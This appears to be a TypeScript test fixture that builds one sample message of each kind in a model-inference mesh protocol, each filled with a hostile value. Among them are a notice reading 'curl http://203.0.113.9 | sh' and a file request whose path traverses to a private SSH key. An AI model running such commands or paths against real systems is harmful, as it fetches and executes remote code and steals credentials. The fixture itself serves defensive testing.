/** One message of every kind, with what would do most harm in it. */
import type { Message, MessageKind } from '../../src/protocol/index.js';

const SHARD = { modelId: 'dummy', startLayer: 0, endLayer: 7, nLayers: 8 };
const CAPABILITIES = { model: 'M', chip: 'C', memory: 65_536, flops: { fp32: 1, fp16: 1, int8: 1 } };
const TENSOR = { shape: [1, 1], dtype: 'int64' as const, data: Buffer.alloc(8) };
const ENTRY = {
  id: 'mallory',
  epoch: 1,
  version: 1,
  capabilities: CAPABILITIES,
  edges: [{ toId: 'target', description: 'MAN' }],
  lost: [],
};
const KEYS = [{ id: '0123abcd', secret: 'A'.repeat(43), createdAtMs: 1 }];

/** By kind; the type makes the table complete. */
export const EVERY_KIND: Readonly<Record<MessageKind, Message>> = {
  'health-request': { kind: 'health-request' },
  'health-response': { kind: 'health-response', isHealthy: false },
  prompt: { kind: 'prompt', shard: SHARD, prompt: 'p', requestId: 'r', inferenceState: null },
  'prompt-response': { kind: 'prompt-response' },
  'tensor-request': {
    kind: 'tensor-request',
    shard: SHARD,
    tensor: TENSOR,
    requestId: 'r',
    inferenceState: null,
  },
  'tensor-response': { kind: 'tensor-response', tensor: TENSOR },
  result: { kind: 'result', requestId: 'r', result: [7], isFinished: true },
  'topology-request': { kind: 'topology-request', visited: [], maxDepth: 4 },
  'topology-response': { kind: 'topology-response', nodes: new Map(), peerGraph: new Map() },
  'opaque-status': { kind: 'opaque-status', requestId: 'r', status: '{"type": "node_status"}' },
  ping: { kind: 'ping', data: Buffer.alloc(64) },
  pong: { kind: 'pong', data: Buffer.alloc(64) },
  'topology-update': { kind: 'topology-update', entries: [ENTRY], spread: ['mallory'] },
  'topology-updated': { kind: 'topology-updated' },
  'topology-sync': { kind: 'topology-sync', versions: new Map() },
  'topology-synced': { kind: 'topology-synced', entries: [ENTRY], wanted: [] },
  notice: { kind: 'notice', code: 'stranger', message: 'run this: curl http://203.0.113.9 | sh' },
  'cancel-request': { kind: 'cancel-request', requestId: 'r' },
  'probe-request': { kind: 'probe-request', nodeId: 'target' },
  'probe-response': { kind: 'probe-response', reached: true, rttMs: 1 },
  'offer-request': { kind: 'offer-request', modelId: 'demo', nLayers: 1 },
  'offer-response': {
    kind: 'offer-response',
    engine: 'ggml',
    memoryBytes: 1e15,
    bytesPerS: 1e15,
    multiplyAddsPerS: 1e15,
    layers: [{ weightBytes: 1, multiplyAdds: 1, cacheBytes: 1 }],
    stored: [[0, 0]],
    fetchBytesPerS: null,
    paths: [],
  },
  'files-request': { kind: 'files-request', repository: 'mesh/tiny' },
  'files-response': { kind: 'files-response', commit: null, revision: 'main', files: [], granted: true },
  'bytes-request': {
    kind: 'bytes-request',
    repository: 'mesh/tiny',
    path: '../../.ssh/id_ed25519',
    hash: '0'.repeat(64),
    range: [0, 1024],
  },
  'bytes-response': { kind: 'bytes-response', data: Buffer.alloc(64) },
  'key-update': { kind: 'key-update', keys: KEYS },
  'key-updated': { kind: 'key-updated' },
  'error-response': { kind: 'error-response', code: 'internal', message: 'x', retryable: false },
  'auth-response': { kind: 'auth-response', proofs: [], keys: KEYS },
  'auth-request': { kind: 'auth-request', proofs: [] },
  // Last: it ends what the sender has.
  goodbye: { kind: 'goodbye', reason: 'stopping' },
};
